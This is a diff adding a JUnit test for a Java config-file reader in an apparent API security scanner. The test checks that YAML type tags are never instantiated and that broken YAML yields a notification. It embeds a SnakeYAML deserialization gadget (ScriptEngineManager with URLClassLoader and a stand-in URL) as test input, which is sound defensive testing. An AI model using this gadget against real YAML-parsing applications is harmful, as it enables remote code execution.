@@ -62,4 +62,25 @@ class ConfigFilesTest {
                 "app.origins[1]=https://b.example.com@15",
                 "top=1@17");
     }
+
+    @Test
+    void yamlTagsAreNeverInstantiatedAndBrokenYamlIsANotification(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
+            throws java.io.IOException {
+        java.nio.file.Path evil = dir.resolve("application.yml");
+        java.nio.file.Files.writeString(evil, """
+                gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
+                server:
+                  error:
+                    include-stacktrace: always
+                """);
+        java.nio.file.Path broken = dir.resolve("application-broken.yml");
+        java.nio.file.Files.writeString(broken, "a: [unclosed\n  b: {\n");
+        dev.apisec.core.engine.Notifications notes = new dev.apisec.core.engine.Notifications();
+        List<ConfigProperty> props = ConfigFiles.read(List.of(
+                new SourceFile(evil, "application.yml", 10), new SourceFile(broken, "application-broken.yml", 10)), notes);
+        assertThat(props).extracting(p -> p.key() + "=" + p.value() + "@" + p.line())
+                .contains("server.error.include-stacktrace=always@4", "gadget[0][0][0][0]=http://x@1");
+        assertThat(notes.sorted()).extracting(dev.apisec.core.engine.Notification::file)
+                .containsExactly("application-broken.yml");
+    }
 }
